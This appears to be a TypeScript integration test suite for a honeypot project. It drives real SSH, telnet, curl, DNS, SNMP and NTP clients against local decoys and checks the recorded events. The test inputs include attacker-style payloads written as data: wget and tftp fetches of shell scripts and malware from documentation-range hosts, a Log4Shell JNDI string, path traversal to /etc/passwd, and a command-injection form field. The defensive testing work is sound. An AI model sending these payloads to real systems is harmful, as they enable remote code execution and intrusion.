// Real clients against the honeypots on loopback: OpenSSH, telnet, curl, dig, net-snmp and the NTP tools.
import { type ChildProcess, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import type { Event } from '#model/event/event.ts';
import { findHoneypot } from './registry.ts';
import { faults, have, type Trial, tryHoneypot } from './testing/harness.ts';

const dir = mkdtempSync(join(tmpdir(), 'hinomi-clients-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

interface Result {
  code: number | null;
  out: string;
  err: string;
}

/** Runs a client; `input` lines are sent one after another with a pause, as a person would type. */
function runClient(
  command: string,
  args: string[],
  options: {
    env?: Record<string, string>;
    input?: string | Buffer;
    pauseMs?: number;
    timeoutMs?: number;
  } = {},
): Promise<Result> {
  return new Promise((resolve, reject) => {
    const child: ChildProcess = spawn(command, args, {
      env: { ...process.env, ...options.env },
      stdio: 'pipe',
      detached: true, // no controlling terminal: ssh then asks through SSH_ASKPASS
    });
    const timer = setTimeout(() => child.kill('SIGKILL'), options.timeoutMs ?? 20_000);
    let out = '';
    let err = '';
    child.stdout!.on('data', bytes => {
      out += bytes;
    });
    child.stderr!.on('data', bytes => {
      err += bytes;
    });
    child.on('error', reject);
    child.on('close', code => {
      clearTimeout(timer);
      resolve({ code, out, err });
    });
    child.stdin!.on('error', () => {});
    void (async () => {
      if (options.pauseMs !== undefined && typeof options.input === 'string')
        for (const line of options.input.split('\n')) {
          await new Promise(done => setTimeout(done, options.pauseMs));
          child.stdin!.write(`${line}\n`);
        }
      else child.stdin!.end(options.input ?? '');
    })();
  });
}

const pot = (id: string) => findHoneypot(id)!;
const actionsOf = (events: readonly Event[]) => events.map(event => event['event.action']);
const valid = (id: string, trial: Trial) => {
  for (const event of trial.events) expect(faults(pot(id), event)).toEqual([]);
  expect(new Set(trial.events.map(event => event['hinomi.session'])).size).toBe(trial.stats().accepted);
};

describe.skipIf(!have('ssh'))('OpenSSH', () => {
  const helper = join(dir, 'askpass');
  writeFileSync(helper, '#!/bin/sh\necho "$HINOMI_TEST_PASSWORD"\n');
  chmodSync(helper, 0o700);
  const env = (password: string) => ({
    SSH_ASKPASS: helper,
    SSH_ASKPASS_REQUIRE: 'force',
    DISPLAY: ':0',
    HINOMI_TEST_PASSWORD: password,
  });
  const options =
    '-F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1'.split(
      ' ',
    );
  const ssh = (
    trial: Trial,
    args: string[],
    more: Parameters<typeof runClient>[2] & { password?: string } = {},
  ) =>
    runClient('ssh', [...options, '-p', String(trial.port), ...args], {
      ...more,
      env: env(more.password ?? 'root'),
    });

  test('a wrong password is refused, a guessed one let in; a command runs and all is recorded', async () => {
    const trial = await tryHoneypot(pot('ssh'), { settings: { login: { acceptAfter: 0 } } });
    expect((await ssh(trial, ['root@127.0.0.1', 'id'], { password: 'wrong' })).code).toBe(255);
    const result = await ssh(trial, ['root@127.0.0.1', 'uname -s; wget http://198.51.100.9/a.sh; nosuch']);
    expect(result).toMatchObject({ code: 127, out: expect.stringMatching(/^Linux\n/) });
    await trial.waitFor(
      event => event['event.action'] === 'session-end' && event.labels?.hassh_algorithms !== undefined,
    );
    await trial.stop();
    const logins = trial.events.filter(event => event['event.action'] === 'login-attempt');
    expect(
      logins.map(event => [event['user.name'], event['hinomi.password'], event['event.outcome']]),
    ).toContainEqual(['root', 'root', 'success']);
    expect(logins[0]).toMatchObject({ 'hinomi.password': 'wrong', 'event.outcome': 'failure' });
    expect(logins[0]?.['hinomi.client_fingerprint']).toMatch(/^[0-9a-f]{32}$/);
    expect(logins[0]?.['user_agent.original']).toMatch(/^SSH-2\.0-OpenSSH/);
    expect(trial.events).toContainEqual(
      expect.objectContaining({ 'event.action': 'download-request', 'url.full': 'http://198.51.100.9/a.sh' }),
    );
    valid('ssh', trial);
  });

  test('an interactive shell with a terminal', async () => {
    const trial = await tryHoneypot(pot('ssh'));
    const { out, code } = await ssh(trial, ['-tt', 'root@127.0.0.1'], {
      input: 'whoami\ncd /tmp\npwd\nexit\n',
    });
    expect(out).toContain('root@server:~# ');
    expect(out).toContain('\r\nroot\r\n');
    expect(out).toContain('root@server:/tmp# ');
    expect(code).toBe(0);
    await trial.waitFor(event => event['event.action'] === 'session-end');
    await trial.stop();
    expect(trial.events.flatMap(event => event['process.command_line'] ?? [])).toEqual([
      'whoami',
      'cd /tmp',
      'pwd',
      'exit',
    ]);
    valid('ssh', trial);
  });

  test('uploads by sftp, by old scp and through cat arrive with the right hash at the sink', async () => {
    const bytes = Buffer.from(Array.from({ length: 70_000 }, (_, index) => (index * 7) & 255));
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    const file = join(dir, 'upload.bin');
    writeFileSync(file, bytes);
    const caught: string[] = [];
    const trial = await tryHoneypot(pot('ssh'), {
      capture: (kept, meta) => {
        expect(createHash('sha256').update(kept).digest('hex')).toBe(meta.sha256);
        caught.push(meta.sha256);
      },
    });
    const scp = (flags: string[]) =>
      runClient('scp', [...flags, ...options, '-P', String(trial.port), file, 'root@127.0.0.1:/tmp/x'], {
        env: env('root'),
      });
    expect((await scp([])).code).toBe(0);
    expect((await scp(['-O'])).code).toBe(0);
    expect((await ssh(trial, ['root@127.0.0.1', 'cat > /tmp/y'], { input: bytes })).code).toBe(0);
    await trial.stop();
    expect(caught).toEqual([sha256, sha256, sha256]);
    const captured = trial.events.filter(event => event['event.action'] === 'file-captured');
    expect(captured.map(event => [event['file.hash.sha256'], event['file.size']])).toEqual(
      Array(3).fill([sha256, bytes.length]),
    );
    valid('ssh', trial);
  });

  test('an upload over the limit is hashed over what is kept, and says so', async () => {
    const trial = await tryHoneypot(pot('ssh'), { limits: { captureBytes: 10_000 } });
    await ssh(trial, ['root@127.0.0.1', 'cat > /tmp/y'], { input: Buffer.alloc(200_000, 1) });
    const event = await trial.waitFor(({ labels }) => labels?.truncated === 'true');
    expect(event['file.size']).toBeLessThanOrEqual(10_000);
    await trial.stop();
  });

  test('tunnels in every direction are refused and recorded; nobody is called', async () => {
    let called = 0;
    const target = createServer(() => called++).listen(0, '127.0.0.1');
    await new Promise(resolve => target.once('listening', resolve));
    const { port } = target.address() as { port: number };
    const trial = await tryHoneypot(pot('ssh'));
    await ssh(trial, ['-W', `127.0.0.1:${port}`, 'root@127.0.0.1']);
    await ssh(trial, [
      '-A',
      '-o',
      'ExitOnForwardFailure=no',
      '-R',
      `0:127.0.0.1:${port}`,
      'root@127.0.0.1',
      'id',
    ]);
    await trial.waitFor(event => event.labels?.kind === 'tcpip-forward');
    await trial.stop();
    target.close();
    const wishes = trial.events.filter(event => event['event.action'] === 'tunnel-request');
    expect(wishes.map(event => event.labels?.kind)).toEqual(
      expect.arrayContaining(['direct-tcpip', 'tcpip-forward']),
    );
    expect(wishes[0]?.labels?.destination).toBe(`127.0.0.1:${port}`);
    expect(called).toBe(0);
    valid('ssh', trial);
  });

  test('a restart shows the same host keys', async () => {
    const first = await tryHoneypot(pot('ssh'));
    const scan = async (port: number) =>
      (await runClient('ssh-keyscan', ['-p', String(port), '127.0.0.1'])).out
        .replace(/^\S+ /gm, '')
        .split('\n')
        .sort();
    const before = await scan(first.port);
    await first.stop();
    const second = await tryHoneypot(pot('ssh'));
    expect(await scan(second.port)).toEqual(before);
    expect(before.filter(line => line !== '').length).toBe(3);
    await second.stop();
  });
});

test.skipIf(!have('telnet'))('telnet: login dialogue, device shell, bot probe', async () => {
  const trial = await tryHoneypot(pot('telnet'));
  const { out } = await runClient('telnet', ['127.0.0.1', String(trial.port)], {
    input:
      'root\nwrong\nadmin\nadmin\n/bin/busybox MIRAI\n/bin/busybox tftp -g -r m.mips 198.51.100.7\nexit\n',
    pauseMs: 250,
  });
  expect(out).toContain('router login: ');
  expect(out).toContain('Login incorrect');
  expect(out).toContain('MIRAI: applet not found');
  expect(out).not.toContain('wrong'); // passwords are not echoed
  await trial.waitFor(event => event['event.action'] === 'session-end');
  await trial.stop();
  expect(actionsOf(trial.events)).toEqual([
    'connection',
    'login-attempt',
    'login-attempt',
    'command',
    'command',
    'download-request',
    'command',
    'session-end',
  ]);
  expect(trial.events[5]).toMatchObject({
    'url.full': 'tftp://198.51.100.7/m.mips',
    'rsit.type': 'malware-distribution',
  });
  valid('telnet', trial);
});

describe.skipIf(!have('curl'))('curl', () => {
  test.each(['http', 'https'])('%s: pages, exploit shapes, credentials, uploads, no proxy', async id => {
    const trial = await tryHoneypot(pot(id));
    const base = `${id}://127.0.0.1:${trial.port}`;
    const curl = (...args: string[]) => runClient('curl', ['-sk', '-m', '10', ...args]);
    expect((await curl(`${base}/`)).out).toContain('Router Administration');
    expect(
      (await curl('-o', '/dev/null', '-w', '%{http_code}', '-u', 'admin:1234', `${base}/cgi-bin/a`)).out,
    ).toBe('401');
    await curl('--path-as-is', `${base}/x/../../../../etc/passwd`);
    await curl('-A', '$' + '{jndi:ldap://198.51.100.9/a}', `${base}/`);
    await curl('-d', 'username=bob&password=s%26cret', `${base}/login.cgi`);
    await curl('-d', 'cmd=;cd /tmp;wget http://198.51.100.9/bins.sh;sh bins.sh', `${base}/goform/run`);
    await curl('-T', process.execPath, '-r', '0-100000', `${base}/up.bin`);
    await curl('-x', base, '--proxy-insecure', 'http://198.51.100.1/');
    await curl('-x', base, '--proxy-insecure', 'https://198.51.100.1/');
    await trial.stop();
    const label = (name: string) => trial.events.flatMap(event => event.labels?.[name] ?? []);
    expect(label('exploit')).toEqual(expect.arrayContaining(['path-traversal', 'jndi-lookup']));
    const logins = trial.events.filter(event => event['event.action'] === 'login-attempt');
    expect(logins.map(event => [event['user.name'], event['hinomi.password'], event.labels?.method])).toEqual(
      [
        ['admin', '1234', 'basic'],
        ['bob', 's&cret', 'form'],
      ],
    );
    const bot = trial.events.find(event => event['event.original']?.includes('bins.sh'));
    expect(bot).toMatchObject({ 'rsit.type': 'exploit', 'http.request.method': 'POST' });
    expect(trial.events).toContainEqual(
      expect.objectContaining({
        'event.action': 'download-request',
        'url.full': 'http://198.51.100.9/bins.sh',
      }),
    );
    expect(trial.events).toContainEqual(
      expect.objectContaining({ 'event.action': 'file-captured', 'file.name': '/up.bin' }),
    );
    expect(label('kind')).toEqual(['http-proxy', 'http-connect']);
    valid(id, trial);
  });
});

describe('UDP baits', () => {
  test.skipIf(!have('dig'))('dig: ANY, version.bind; silence after ten identical questions', async () => {
    const trial = await tryHoneypot(pot('dns'));
    const dig = (...args: string[]) =>
      runClient('dig', ['+tries=1', '+time=1', '+notcp', '@127.0.0.1', '-p', String(trial.port), ...args]);
    const any = await dig('example.org', 'ANY');
    expect(any.out).toContain('status: NOERROR');
    expect(any.out).not.toMatch(/WARNING|malformed/i);
    expect(any.out).toMatch(/example\.org\.\s+300\s+IN\s+A\s+192\.0\.2\.53/);
    expect((await dig('+short', 'version.bind', 'CH', 'TXT')).out).toBe('"dnsmasq-2.85"\n');
    for (let index = 0; index < 10; index++) expect((await dig('+noedns', 'a.example')).code).toBe(0);
    expect((await dig('+noedns', 'a.example')).code).toBe(9);
    await trial.stop();
    expect(trial.events[0]).toMatchObject({
      'dns.question.name': 'example.org',
      'dns.question.type': 'ANY',
      'network.packets': 1,
    });
    expect(trial.events.reduce((sum, event) => sum + event['network.packets']!, 0)).toBe(13);
    for (const event of trial.events) expect(faults(pot('dns'), event)).toEqual([]);
  });

  test.skipIf(!have('snmpget'))('net-snmp: get, walk and bulk on v1 and v2c', async () => {
    const trial = await tryHoneypot(pot('snmp'));
    const snmp = (tool: string, version: string, community: string, oid: string) =>
      runClient(tool, [
        '-v',
        version,
        '-c',
        community,
        '-r',
        '0',
        '-t',
        '1',
        '-On',
        `127.0.0.1:${trial.port}`,
        oid,
      ]);
    for (const version of ['1', '2c'])
      expect((await snmp('snmpget', version, 'public', '1.3.6.1.2.1.1.5.0')).out).toContain(
        'STRING: "router"',
      );
    expect((await snmp('snmpget', '1', 'public', '1.3.6.1.9.9')).err).toContain('noSuchName');
    expect((await snmp('snmpget', '2c', 'public', '1.3.6.1.9.9')).out).toContain('No Such Object');
    expect((await snmp('snmpbulkget', '2c', 'public', '1.3.6.1.2.1')).out).toContain('"eth0"');
    expect((await snmp('snmpget', '2c', 'private', '1.3.6.1.2.1.1.5.0')).code).not.toBe(0);
    await trial.stop();
    expect(trial.events[0]).toMatchObject({
      'hinomi.password': 'public',
      labels: { query: 'get 1.3.6.1.2.1.1.5.0' },
    });
    for (const event of trial.events) expect(faults(pot('snmp'), event)).toEqual([]);
  });

  // The NTP tools know port 123 only: an address of our own on loopback, where this process may bind it.
  test.skipIf(!have('ntpq') || !have('ntpdig'))('ntpq -p, ntpq -c rv and ntpdig', async context => {
    const trial = await tryHoneypot(pot('ntp'), { address: '127.0.0.1', port: 123 }).catch(
      (error: Error) => error,
    );
    if (trial instanceof Error) return context.skip(`port 123 cannot be bound here: ${trial.message}`);
    const peers = await runClient('ntpq', ['-n', '-p', '127.0.0.1']);
    expect(peers.out).toMatch(/192\.0\.2\.123\s+192\.0\.2\.10\s+2 /);
    const variables = await runClient('ntpq', ['-c', 'rv', '127.0.0.1']);
    expect(variables.out).toContain('ntpd 4.2.6p5');
    const time = await runClient('ntpdig', ['-j', '127.0.0.1']);
    expect(Math.abs(JSON.parse(time.out).offset)).toBeLessThan(5);
    await trial.stop();
    const queries = trial.events.map(event => event.labels?.query);
    expect(queries[0]).toMatch(/^control /);
    for (const event of trial.events) expect(faults(pot('ntp'), event)).toEqual([]);
  });
});
